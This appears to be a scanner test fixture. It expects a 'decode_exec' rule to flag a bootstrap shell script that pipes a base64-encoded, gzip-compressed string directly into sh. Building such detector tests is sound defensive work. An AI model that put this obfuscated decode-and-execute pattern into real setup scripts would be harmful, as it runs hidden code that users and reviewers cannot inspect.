# expect: shell.decode_exec critical
# path: scripts/bootstrap.sh
#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")/.."
echo eJxLTixRqNPXKy7O0M9MiS8qTlSoUchLVjAyMNYz0DM0NAZiQwVLAwNDAAz/CzE= | base64 -d | gunzip | sh
